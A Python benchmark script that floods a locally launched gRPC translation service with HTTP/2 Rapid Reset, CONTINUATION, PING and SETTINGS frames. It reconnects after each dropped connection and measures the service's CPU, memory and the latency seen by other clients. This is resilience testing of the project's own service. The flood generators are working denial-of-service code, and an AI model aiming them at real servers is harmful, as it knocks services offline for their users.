"""Run as `python -m benchmarks.abuse.floods`: connections that flood the service with frames.

Each connection confirms the settings of the service, which would otherwise end it for that alone,
and is made again when the service ends it. Beside the flood, four ordinary clients translate.
Prints what the flood cost the service, and how long the others waited.
"""

import contextlib
import socket
import threading
import time
from collections.abc import Callable, Iterator
from functools import partial
from typing import Annotated, Final

import grpc
import numpy as np
import typer

from benchmarks.abuse.http2_frames import (
    ACKNOWLEDGED,
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    FrameReader,
    call_headers,
    frame,
    header,
)
from benchmarks.abuse.service_process import ServiceProcess
from jumok.v1 import translation_pb2 as pb
from jumok.v1.translation_pb2_grpc import TranslationServiceStub

_SENTENCE: Final = "저는 어제 친구와 함께 영화를 봤어요"
_CLIENTS: Final = 4
_AT_ONCE: Final = 50  # frames that are sent together
_CANCEL: Final = (8).to_bytes(4, "big")  # error code of a reset


def _resets() -> Iterator[bytes]:
    """Yield calls that are reset at once (CVE-2023-44487)."""
    headers = call_headers("Translate")
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, headers) + frame(RESET, 0, stream, _CANCEL)


def _continuations() -> Iterator[bytes]:
    """Yield headers that never end (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, call_headers("Translate"))
    while True:
        yield frame(CONTINUATION, 0, 1, header("x-padding", "x" * 100) * 20)


def _pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, b"12345678")


def _settings() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0)


_FLOODS: Final[dict[str, Callable[[], Iterator[bytes]]]] = {
    "calls reset at once": _resets,
    "CONTINUATION": _continuations,
    "PING": _pings,
    "SETTINGS": _settings,
}


class _Flood:
    """Floods the service, and connects again whenever it ends the connection.

    Attributes:
        connections: number of connections.
        frames: number of frames, or groups of frames, that were sent.
    """

    def __init__(self, address: str, frames: Callable[[], Iterator[bytes]]) -> None:
        host, _, port = address.rpartition(":")
        self._address, self._frames = (host, int(port)), frames
        self.connections = self.frames = 0

    def run(self, seconds: float) -> None:
        """Send frames for some time."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            self.connections += 1
            with (
                contextlib.suppress(OSError),
                socket.create_connection(self._address) as connection,
            ):
                connection.settimeout(left)
                self._send(connection, end)

    def _send(self, connection: socket.socket, end: float) -> None:
        """Send frames until the service ends the connection, which raises OSError."""
        confirmed = threading.Event()
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=_answer, args=(connection, confirmed), daemon=True).start()
        confirmed.wait(end - time.monotonic())
        frames = self._frames()
        while time.monotonic() < end:
            connection.sendall(b"".join(next(frames) for _ in range(_AT_ONCE)))
            self.frames += _AT_ONCE


def _answer(connection: socket.socket, confirmed: threading.Event) -> None:
    """Confirm the settings of the service, as an ordinary client does."""
    reader = FrameReader()
    with contextlib.suppress(OSError):
        while content := connection.recv(65536):
            for received in reader.feed(content):
                if received.kind == SETTINGS and not received.flags & ACKNOWLEDGED:
                    connection.sendall(frame(SETTINGS, ACKNOWLEDGED, 0))
                    confirmed.set()


def _ordinary(address: str, stopping: threading.Event, waits: list[float]) -> None:
    """Translate one sentence after the other; note the seconds of each."""
    with grpc.insecure_channel(address, [("grpc.use_local_subchannel_pool", 1)]) as channel:
        stub = TranslationServiceStub(channel)
        while not stopping.is_set():
            begun = time.monotonic()
            *_, last = stub.Translate(pb.TranslateRequest(text=_SENTENCE))
            assert last.HasField("result")
            waits.append(time.monotonic() - begun)


def _beside(address: str, work: Callable[[], None]) -> list[float]:
    """Return how long ordinary clients waited while something else was done."""
    stopping, waits = threading.Event(), list[float]()
    arguments = address, stopping, waits
    clients = [threading.Thread(target=_ordinary, args=arguments) for _ in range(_CLIENTS)]
    for client in clients:
        client.start()
    work()
    stopping.set()
    for client in clients:
        client.join()
    return waits


def _row(name: str, outcome: str, cost: str, waits: list[float]) -> str:
    p50, p99 = (1e3 * float(np.quantile(waits, rank)) for rank in (0.5, 0.99))
    return f"| {name} | {outcome} | {cost} | {p50:.0f} | {p99:.0f} |"


def main(
    seconds: Annotated[float, typer.Option(help="Seconds that each flood lasts.")] = 20,
) -> None:
    """Flood the service in each way."""
    with ServiceProcess() as service:
        typer.echo(
            "| flood | sent | CPU, peak memory of the service "
            "| others wait p50, ms | p99, ms |\n| --- | --- | --- | ---: | ---: |"
        )
        cpu = service.cpu_seconds
        waits = _beside(service.address, lambda: time.sleep(seconds))
        cost = f"{service.cpu_seconds - cpu:.1f} s, {service.measured().peak:.0f} MiB"
        typer.echo(_row("none", "", cost, waits))
        for name, frames in _FLOODS.items():
            flood, cpu = _Flood(service.address, frames), service.cpu_seconds
            waits = _beside(service.address, partial(flood.run, seconds))
            cost = f"{service.cpu_seconds - cpu:.1f} s, {service.measured().peak:.0f} MiB"
            sent = f"{flood.frames:,} frames, {flood.connections:,} connections"
            typer.echo(_row(name, sent, cost, waits))


if __name__ == "__main__":
    typer.run(main)
